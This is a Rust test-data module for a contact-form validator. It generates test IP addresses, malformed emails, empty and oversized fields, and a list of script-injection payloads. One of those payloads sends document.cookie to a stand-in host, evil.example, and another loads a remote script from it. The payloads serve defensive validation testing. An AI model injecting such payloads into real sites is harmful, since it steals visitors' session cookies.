// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: Apache-2.0

//! Test data generators for attack simulation.

use super::attacks::PayloadKind;
use contact_gate::validator::{ContactSubmission, MAX_EMAIL_LEN, MAX_MESSAGE_LEN, MAX_NAME_LEN};
use std::net::{IpAddr, Ipv4Addr};

/// Generate a pool of IP addresses for testing.
pub fn generate_ips(count: usize) -> Vec<IpAddr> {
    (0..count)
        .map(|i| {
            // Use 10.x.x.x private range
            let a = ((i >> 16) & 0xFF) as u8;
            let b = ((i >> 8) & 0xFF) as u8;
            let c = (i & 0xFF) as u8;
            IpAddr::V4(Ipv4Addr::new(10, a, b, c))
        })
        .collect()
}

/// Script-injection payloads seen in contact form spam.
pub fn injection_payloads() -> Vec<&'static str> {
    vec![
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(document.cookie)>",
        "<svg onload=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<a href=\"javascript:void(0)\">click</a>",
        "\"><script>fetch('//evil.example?c='+document.cookie)</script>",
        "<div onclick=\"steal()\">hi</div>",
    ]
}

/// Email addresses that must be rejected.
pub fn malformed_emails() -> Vec<&'static str> {
    vec![
        "not-an-email",
        "a@b",
        "@example.com",
        "user@",
        "user@.com",
        "user name@example.com",
        "user@exa mple.com",
        "a@@example.com",
        "user@example.",
    ]
}

/// Build the `index`-th submission of the given kind.
pub fn submission(kind: PayloadKind, index: usize) -> ContactSubmission {
    match kind {
        PayloadKind::Valid => ContactSubmission {
            name: format!("Visitor {index}"),
            email: format!("visitor{index}@example.com"),
            message: "Loved the portfolio, let's talk.".to_string(),
        },
        PayloadKind::Injection => {
            let payloads = injection_payloads();
            let payload = payloads[index % payloads.len()];
            ContactSubmission {
                name: payload.to_string(),
                email: format!("attacker{index}@example.com"),
                message: payload.to_string(),
            }
        }
        PayloadKind::BadEmail => {
            let emails = malformed_emails();
            ContactSubmission {
                name: "Spammer".to_string(),
                email: emails[index % emails.len()].to_string(),
                message: "Buy now".to_string(),
            }
        }
        PayloadKind::Empty => {
            let blanks = ["", " ", "\t\n"];
            let blank = blanks[index % blanks.len()].to_string();
            let mut s = ContactSubmission {
                name: "Ada".to_string(),
                email: "ada@example.com".to_string(),
                message: "hello".to_string(),
            };
            match index % 3 {
                0 => s.name = blank,
                1 => s.email = blank,
                _ => s.message = blank,
            }
            s
        }
        PayloadKind::Oversized => {
            let mut s = ContactSubmission {
                name: "Ada".to_string(),
                email: "ada@example.com".to_string(),
                message: "hello".to_string(),
            };
            match index % 3 {
                0 => s.name = "n".repeat(MAX_NAME_LEN + 1),
                1 => s.email = format!("{}@example.com", "e".repeat(MAX_EMAIL_LEN)),
                _ => s.message = "m".repeat(MAX_MESSAGE_LEN + 1),
            }
            s
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_generate_ips() {
        let ips = generate_ips(256);
        assert_eq!(ips.len(), 256);
        // All should be unique
        let unique: std::collections::HashSet<_> = ips.iter().collect();
        assert_eq!(unique.len(), 256);
    }
}
